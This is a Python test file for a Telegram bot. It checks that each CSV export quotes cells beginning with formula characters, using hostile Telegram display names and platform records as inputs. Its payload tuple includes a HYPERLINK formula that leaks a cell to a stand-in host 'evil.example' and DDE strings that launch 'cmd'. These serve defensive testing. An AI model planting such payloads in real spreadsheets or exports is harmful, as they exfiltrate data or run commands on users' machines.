"""CSV exports are neutralised against formula injection (issue 12, point 7).

A spreadsheet runs a cell that starts with = + - @ TAB or CR as a formula. Every export
(`/audit csv`, `/attendance`, `/signins`, `/register` results) goes through
`bot.render.csvfile`: such a cell gets a leading `'`, plain numbers stay numbers. Each export is
driven end to end: a hostile name comes from a Telegram display name or from the sandbox
platform, and the CSV document the Telegram emulator received is parsed.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Awaitable, Callable
from dataclasses import replace
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

from hypothesis import given
from hypothesis import strategies as st

from bot.demo.stack import Stack
from bot.render.csvfile import FORMULA_START, csv_bytes, safe_cell
from bot.sandbox.platform import SandboxPlatform
from bot.sandbox.telegram import EmuMessage
from storage.roles import Role

MakeStack = Callable[..., Awaitable[Stack]]

# The classic payloads: a link that leaks the sheet, DDE command execution, and one per
# character of OWASP's list.
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
HOSTILE = (
    HYPERLINK,
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
)
SANDBOX_NOW = datetime(2026, 11, 28, 15, 0, tzinfo=ZoneInfo("Asia/Shanghai"))  # conftest's
YESTERDAY = SANDBOX_NOW.date() - timedelta(days=1)


def table(msg: EmuMessage) -> list[list[str]]:
    """The CSV document a bot message carries, parsed as a spreadsheet would read it."""
    assert msg.kind == "document" and msg.file is not None and msg.file.data is not None
    assert msg.file.data.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(msg.file.data.decode("utf-8-sig"), newline="")))


def assert_inert(rows: list[list[str]]) -> None:
    """No cell of the file starts like a formula, except a plain number."""
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_START):
                assert cell.lstrip("-").replace(".", "", 1).isdigit(), (cell, row)


def documents(msgs: list[EmuMessage]) -> list[EmuMessage]:
    return [m for m in msgs if m.kind == "document"]


# ---- the helper ------------------------------------------------------------------------------


def test_formula_cells_are_quoted_and_numbers_stay_numbers() -> None:
    for payload in HOSTILE:
        assert safe_cell(payload) == "'" + payload
    assert safe_cell("-") == "'-"
    assert safe_cell("+8613800000000") == "'+8613800000000"  # a phone number: kept as text
    assert safe_cell("-3") == "-3"  # a count
    assert safe_cell("-33.868800") == "-33.868800"  # a coordinate
    assert safe_cell("-3\n=1+2") == "'-3\n=1+2"  # a number only if it is nothing else
    assert safe_cell("-３") == "'-３"  # full-width digits are not a number here
    assert safe_cell(-5) == -5 and safe_cell(2.5) == 2.5
    assert safe_cell(None) == ""
    assert safe_cell({"name": "=1"}) == "{'name': '=1'}"  # not a formula: starts with {
    assert safe_cell("张三 =1+2") == "张三 =1+2" and safe_cell("") == ""

    data = csv_bytes(["名字", "=header"], [[HYPERLINK, -5], ["a,b\r\nc", "-1.5"]])
    assert data.startswith("\ufeff".encode()) and b"\r\n" in data
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows == [["名字", "'=header"], ["'" + HYPERLINK, "-5"], ["a,b\r\nc", "-1.5"]]


@given(st.lists(st.lists(st.one_of(st.text(), st.integers(), st.none()), max_size=5), max_size=5))
def test_any_cell_reads_back_inert_and_recoverable(rows: list[list[object]]) -> None:
    parsed = list(csv.reader(io.StringIO(csv_bytes([], rows).decode("utf-8-sig"), newline="")))
    assert len(parsed) == len(rows) + 1  # the empty header, then one line per row
    assert_inert(parsed[1:])
    for row, back in zip(rows, parsed[1:], strict=True):
        want = ["" if v is None else str(v) for v in row]
        got = [c[1:] if c.startswith("'") and c[1:].startswith(FORMULA_START) else c for c in back]
        assert got == want


# ---- each export, end to end -----------------------------------------------------------------


async def test_audit_csv_quotes_a_hostile_telegram_display_name(make_bot_stack: MakeStack) -> None:
    stack = await make_bot_stack()
    assert stack.bridge is not None
    mallory = stack.emu.add_user(1077, HYPERLINK, language_code="en", last_name="Ops")
    await stack.bridge.roles.set(mallory.id, Role.ADMIN, None, None)
    await stack.say(mallory, "/device 860005 repair")

    docs = documents(await stack.say("admin", "/audit csv"))
    assert len(docs) == 1
    rows = table(docs[0])
    assert rows[0] == ["at", "actor_id", "actor", "action", "target", "args", "result"]
    assert [(r[1], r[2], r[3], r[4], r[6]) for r in rows[1:]] == [
        ("1077", "'" + HYPERLINK + " Ops", "device", "860005", "ok")
    ]
    assert_inert(rows)


async def make_hostile_sandbox(make_bot_stack: MakeStack) -> tuple[Stack, dict[int, str]]:
    """A stack whose platform names six people with a formula each (the sandbox's records
    carry the names it had when they were first asked for)."""
    sandbox = SandboxPlatform(now=lambda: SANDBOX_NOW)
    await sandbox.start()
    renamed: dict[int, str] = {}
    for uid, payload in zip(sorted(sandbox.data.users), HOSTILE, strict=False):
        sandbox.data.users[uid].name = payload
        renamed[uid] = payload
    return await make_bot_stack(sandbox=sandbox), renamed


async def test_attendance_csv_quotes_hostile_platform_names(make_bot_stack: MakeStack) -> None:
    stack, renamed = await make_hostile_sandbox(make_bot_stack)
    docs = documents(await stack.say("supervisor", f"/attendance {YESTERDAY}"))
    assert len(docs) == 1
    rows = table(docs[0])
    assert rows[0][2] == "User id" and rows[0][4] == "Name"
    names = {int(r[2]): r[4] for r in rows[1:]}
    hostile = {uid: names[uid] for uid in renamed if uid in names}
    assert len(hostile) >= 4  # nine in ten people clock in on a day
    assert hostile == {uid: "'" + renamed[uid] for uid in hostile}
    assert_inert(rows)


async def test_signins_csv_quotes_hostile_names_and_remarks(make_bot_stack: MakeStack) -> None:
    stack, renamed = await make_hostile_sandbox(make_bot_stack)
    data = stack.platform.data
    # A remark and a place typed on a terminal, the other free-text fields of 2.17.
    day = data.signins(YESTERDAY, YESTERDAY)
    first = day[0]
    data._signins[YESTERDAY] = [
        replace(first, remark="=1+2", address="@SUM(A1:A9)"),
        *day[1:],
    ]
    docs = documents(await stack.say("supervisor", f"/signins {YESTERDAY}"))
    assert len(docs) == 1
    rows = table(docs[0])
    assert rows[0][2:5] == ["Record id", "User id", "Name"]
    by_id = {int(r[2]): r for r in rows[1:]}
    assert (by_id[first.id][7], by_id[first.id][10]) == ("'@SUM(A1:A9)", "'=1+2")
    hostile = {int(r[3]): r[4] for r in rows[1:] if int(r[3]) in renamed}
    assert hostile and hostile == {uid: "'" + renamed[uid] for uid in hostile}
    # Coordinates are numbers, unquoted.
    assert all(float(r[8]) and float(r[9]) for r in rows[1:])
    assert_inert(rows)


async def test_register_results_csv_quotes_hostile_names(make_bot_stack: MakeStack) -> None:
    stack = await make_bot_stack()
    lines = ["csvx01,=1+2", "csvx02,@SUM(1+9)", "csvx03,-2+3", "csvx04,+1", "csvx05,王五"]
    ready = await stack.say("admin", "/register\n" + "\n".join(lines))
    assert "5 accounts are ready" in ready[-1].plain_text()
    docs = documents(await stack.say("admin", "Secret-pass-1"))
    assert len(docs) == 1
    rows = table(docs[0])
    assert rows[0] == ["line", "account", "name", "result", "id", "reason"]
    assert [(r[1], r[2], r[3]) for r in rows[1:]] == [
        ("csvx01", "'=1+2", "created"),
        ("csvx02", "'@SUM(1+9)", "created"),
        ("csvx03", "'-2+3", "created"),
        ("csvx04", "'+1", "created"),
        ("csvx05", "王五", "created"),
    ]
    # The platform got the names as typed: only the file is quoted.
    created = {u.account: u.name for u in stack.platform.data.users.values()}
    assert created["csvx01"] == "=1+2" and created["csvx04"] == "+1"
    assert_inert(rows)
